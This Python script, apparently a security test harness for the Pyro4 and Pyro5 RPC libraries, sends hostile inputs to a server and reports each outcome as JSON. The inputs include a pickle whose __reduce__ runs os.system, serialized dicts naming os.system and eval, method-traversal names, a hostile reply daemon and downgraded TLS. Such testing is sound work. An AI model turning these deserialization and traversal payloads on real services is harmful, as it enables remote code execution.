"""What somebody does who means harm, with the real libraries. Each command prints one line of JSON: for each try, what became of it.

attacker.py reach URI             names that nobody is meant to call, past the proxy's own checks
attacker.py classes URI FILE      dictionaries that name classes; whoever makes instances of them creates the file
attacker.py unclaimed URI         a proxy that the daemon may pass on, but not connect
attacker.py pickles URI FILE      pickles of Pyro4 that create the file when they are loaded
attacker.py daemon SERIALIZER FILE    a daemon whose answers create the file; prints its URI, and ends with its standard input
attacker.py old URI CA            TLS as nobody should speak it any more
"""

import json
import os
import socket
import ssl
import sys
import threading


def tried(tries):
    """What became of each try."""
    outcomes = {}
    for label, what in tries:
        try:
            outcomes[label] = "answer: %r" % (what(),)
        except Exception as error:
            outcomes[label] = "%s: %s" % (type(error).__name__, str(error).partition("\n")[0])
    print(json.dumps(outcomes))


METHODS = [
    # Object traversal.
    "velocity.real", "echo.__globals__", "echo.__func__.__globals__", "__class__.__mro__", "daemon.shutdown", "_pyroDaemon.shutdown",
    # What every object in Python has.
    "__init__", "__class__", "__dict__", "__getattribute__", "__reduce__", "__reduce_ex__", "__del__", "__subclasshook__", "__dir__",
    "__getattr__", "__setattr__", "__delattr__", "__call__", "__iter__", "__enter__", "__eq__",
    # What is private, what is not exposed, and what is no method.
    "_private", "__mangled", "_Thing__notes", "new", "not_exposed", "lock", "velocity", "", " ", "echo ", "ECHO", "echo\0", "\u202eecho",
]


def reach(uri):
    from Pyro5.client import Proxy

    proxy = Proxy(uri)
    call = proxy._pyroInvoke
    tries = [("method " + name, lambda name=name: call(name, [], {})) for name in METHODS]
    names = ["__class__", "__dict__", "_private", "__init__", "velocity.real", "echo", "", "__getattr__", "not_exposed"]
    tries += [("get " + name, lambda name=name: call("__getattr__", [name], {})) for name in names]
    names = ["__class__", "__dict__", "_private", "velocity.real", "echo", "name", "", "new_one"]
    tries += [("set " + name, lambda name=name: call("__setattr__", [name, 1], {})) for name in names]
    objects = ["thing.echo", "thing.velocity", "thing/../Pyro.Daemon", "nobody", "Pyro", "__main__", "thing\0"]
    tries += [("object " + name, lambda name=name: call("echo", [1], {}, objectId=name)) for name in objects]
    # The daemon tells of itself, and does nothing.
    names = ["shutdown", "register", "unregister", "uriFor", "close", "requestLoop", "resetMetadataCache", "_shutdown", "objectsById"]
    tries += [("daemon " + name, lambda name=name: call(name, ["thing"], {}, objectId="Pyro.Daemon")) for name in names]
    # In batches just so.
    names = ["__init__", "echo.__globals__", "_private", "not_exposed"]

    def batch(name):
        result = proxy._pyroInvokeBatch([(name, (), {})])[0]
        # An exception in its place.
        result.raiseIt() if hasattr(result, "raiseIt") else None
        return result

    tries += [("batch " + name, lambda name=name: batch(name)) for name in names]
    tries.append(("and after all", lambda: call("echo", ["good"], {})))
    tried(tries)


def classes(uri, file):
    from Pyro5.client import Proxy
    from Pyro5.serializers import SerializerBase

    known = SerializerBase.dict_to_class

    def shown(cls, data):
        """What comes back and is of no class that Pyro knows is shown as it came."""
        try:
            return known(data)
        except Exception:
            return "instance of " + data["__class__"]

    SerializerBase.dict_to_class = classmethod(shown)
    touch = "touch " + file
    code = "open(%r, 'w')" % file
    hostile = {
        "os.system": {"__class__": "os.system", "args": [touch]},
        "builtins.eval": {"__class__": "builtins.eval", "__exception__": True, "args": [code], "attributes": {}},
        "subprocess.Popen": {"__class__": "subprocess.Popen", "__exception__": True, "args": [["touch", file]], "attributes": {}},
        "builtins.open": {"__class__": "builtins.open", "__exception__": True, "args": [file, "w"], "attributes": {}},
        "thing.Thing": {"__class__": "thing.Thing", "_pyroDaemon": 1, "__dict__": {"x": 1}},
        "__main__.tried": {"__class__": "__main__.tried", "args": []},
    }
    tries = []
    for serializer in ["serpent", "json", "marshal", "msgpack"]:
        proxy = Proxy(uri)
        proxy._pyroSerializer = serializer
        for name, value in hostile.items():
            tries.append((serializer + " " + name, lambda proxy=proxy, value=value: proxy.echo(value)))
            tries.append((serializer + " inside " + name, lambda proxy=proxy, value=value: proxy.echo([{"a": value}])))
            tries.append((serializer + " as text " + name, lambda proxy=proxy, value=value: proxy.greet(value)))
        tries.append((serializer + " and after all", lambda proxy=proxy: proxy.echo("good")))
    tried(tries)


def unclaimed(uri):
    from Pyro5.client import Proxy

    trap = socket.create_server(("127.0.0.1", 0))
    port = trap.getsockname()[1]
    tries = []
    for serializer in ["serpent", "json", "marshal", "msgpack"]:
        proxy = Proxy(uri)
        proxy._pyroSerializer = serializer
        for location in ["PYRO:trap@127.0.0.1:%d" % port, "PYRONAME:trap@127.0.0.1:%d" % port]:
            label = serializer + " " + location.partition(":")[0]
            tries.append((label, lambda proxy=proxy, location=location: str(proxy.echo(Proxy(location))).partition(" at ")[0]))
    trap.settimeout(0.2)

    def connected():
        try:
            return "connected from %s:%d" % trap.accept()[1]
        except socket.timeout:
            return "nobody"

    tries.append(("who came", connected))
    tried(tries)


class Harm:
    """Pickled, it is a call."""

    def __init__(self, file):
        self.file = file

    def __reduce__(self):
        return os.system, ("touch " + self.file,)


def pickles(uri, file):
    import Pyro4

    Pyro4.config.SERIALIZERS_ACCEPTED = {"pickle", "serpent", "json", "marshal", "msgpack"}
    tries = []
    for protocol in range(5):
        proxy = Pyro4.Proxy(uri)
        proxy._pyroSerializer = "pickle"

        def attempt(value, proxy=proxy, protocol=protocol):
            Pyro4.config.PICKLE_PROTOCOL_VERSION = protocol
            try:
                return proxy.echo(value)
            finally:
                proxy._pyroRelease()

        tries.append(("protocol %d data" % protocol, lambda attempt=attempt: attempt([1, "two"])))
        tries.append(("protocol %d harm" % protocol, lambda attempt=attempt: attempt(Harm(file))))
        tries.append(("protocol %d inside" % protocol, lambda attempt=attempt: attempt({"a": [Harm(file)]})))
    proxy = Pyro4.Proxy(uri)
    proxy._pyroSerializer = "serpent"
    tries.append(("and after all", lambda: proxy.echo("good")))
    tried(tries)


def daemon(serializer, file):
    hostile = {"__class__": "os.system", "__exception__": True, "args": ["touch " + file], "attributes": {}}
    if serializer == "pickle":
        import Pyro4 as pyro

        pyro.config.SERIALIZERS_ACCEPTED = {"pickle"}
        pyro.config.REQUIRE_EXPOSE = False
        hostile = Harm(file)
    else:
        import Pyro5.api as pyro

    @pyro.expose
    class Hostile:
        def answer(self):
            return hostile

        def answers(self):
            return [hostile, {"a": hostile}]

    server = pyro.Daemon("127.0.0.1")
    print(server.register(Hostile()), flush=True)
    threading.Thread(target=server.requestLoop, daemon=True).start()
    sys.stdin.read()
    os._exit(0)


def old(uri, ca):
    host, _, port = uri.partition("@")[2].rpartition(":")
    tries = []

    def speak(version, ciphers):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(ca)
        context.set_ciphers(ciphers)
        context.minimum_version = context.maximum_version = version
        with socket.create_connection((host, int(port)), timeout=20) as plain:
            with context.wrap_socket(plain, server_hostname="localhost") as secure:
                return secure.version()

    versions = ssl.TLSVersion
    for label, version in [("TLS 1.0", versions.TLSv1), ("TLS 1.1", versions.TLSv1_1)]:
        tries.append((label, lambda version=version: speak(version, "ALL:@SECLEVEL=0")))
    for ciphers in ["NULL", "aNULL", "AES128-SHA", "ECDHE-ECDSA-AES128-SHA"]:
        # Without forward secrecy, with hashes of old, or with nothing at all.
        tries.append(("cipher " + ciphers, lambda ciphers=ciphers: speak(versions.TLSv1_2, ciphers + ":@SECLEVEL=0")))
    tries.append(("TLS 1.2", lambda: speak(versions.TLSv1_2, "DEFAULT")))
    tries.append(("TLS 1.3", lambda: speak(versions.TLSv1_3, "DEFAULT")))
    tried(tries)


if __name__ == "__main__":
    commands = {name: globals()[name] for name in ("reach", "classes", "unclaimed", "pickles", "daemon", "old")}
    commands[sys.argv[1]](*sys.argv[2:])
